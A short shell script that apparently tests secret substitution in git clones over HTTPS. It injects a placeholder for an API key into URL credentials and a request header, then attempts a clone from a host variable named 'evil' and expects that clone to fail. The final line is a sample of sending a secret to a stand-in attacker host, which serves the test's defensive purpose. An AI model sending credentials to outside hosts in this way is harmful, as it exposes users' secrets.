# git over https. It sends what stands before the `@` once it was asked for it.
set -eu
base=${1%/v1} evil=$2
ref='{secrets.crm.apiKey}'
export GIT_TERMINAL_PROMPT=0
git -c "http.extraHeader=X-Api-Key: $ref" clone -q "$(echo "$base" | sed 's|//|//me:%7Bsecrets.crm.apiKey%7D@|')/repository.git" cloned
cat cloned/file
git -c "http.extraHeader=X: $ref" clone -q "$evil/repository.git" elsewhere || test $? = 128
